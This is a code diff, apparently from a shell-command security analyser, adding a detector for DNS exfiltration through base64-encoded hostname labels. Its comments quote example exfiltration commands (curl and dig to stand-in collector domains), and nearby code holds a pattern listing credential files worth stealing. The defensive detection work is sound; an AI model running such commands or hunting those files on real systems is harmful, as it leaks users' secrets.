@@ -413,6 +413,24 @@ function whoisExfil(s: Subject): boolean {
   return s.cmd.args.some((a) => a.value === '-h' || a.value.startsWith('-h') || a.value === '--host') && s.feeders().length > 0;
 }
 
+/** A first DNS label that is encoded data: base64 padding (`MTEx…=`), or a long mixed-case base64 run. */
+const ENCODED_LABEL = /^([A-Za-z0-9+/_-]{2,}={1,2}|(?=[A-Za-z0-9]*[A-Z])(?=[A-Za-z0-9]*[a-z])(?=[A-Za-z0-9]*[0-9])[A-Za-z0-9]{20,})$/;
+
+/**
+ * A host name whose first label is encoded data (`curl MTExLTExLTExMTE=.collector.example`,
+ * `dig aGVsbG8=.ns.example`): the lookup itself carries the text to the domain's DNS server.
+ * Hosts come from the command's network operations, and for DNS tools from their operands.
+ */
+function encodedHost(s: Subject): boolean {
+  // a URL without a scheme has no parsed host: its target is the text
+  const hosts = s.ops.flatMap((o) => (o.kind === 'Network' ? [o.host ?? o.target ?? ''] : []));
+  if (DNS_TOOLS.includes(s.cmd.program ?? '')) hosts.push(...s.parsed.operands.map((a) => a.value));
+  return hosts.some((h) => {
+    const labels = h.replace(/^[a-z]+:\/\//i, '').split(/[/:]/)[0].split('.');
+    return labels.length >= 3 && ENCODED_LABEL.test(labels[0]);
+  });
+}
+
 /** Names of files worth stealing, as a find/locate/grep looks for them. */
 const KEY_NAMES = /id_(rsa|dsa|ecdsa|ed25519)|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx\b|credentials|\.env\b|wallet\.dat|\.ovpn\b|private/i;
 
@@ -497,6 +515,7 @@ export const exfiltrationPredicates: Record<string, Predicate> = {
   'exfiltration/streams-bulk': requires([{ features: ['pipeline'] }], forPrograms(STDIN_SENDERS, streamsBulk)),
   'exfiltration/streams-outside-file': requires([{ features: ['pipeline'] }], forPrograms(STDIN_SENDERS, streamsOutsideFile)),
   'exfiltration/sends-file-or-output': forPrograms(STDIN_SENDERS, sendsFileOrOutput),
+  'exfiltration/encoded-host': requires([{ features: ['Network'] }], encodedHost),
   'exfiltration/reads-bulk': requires([{ features: ['Read', 'List'] }], readsBulkData),
   ...serveExfiltrationPredicates,
   ...collectionPredicates,
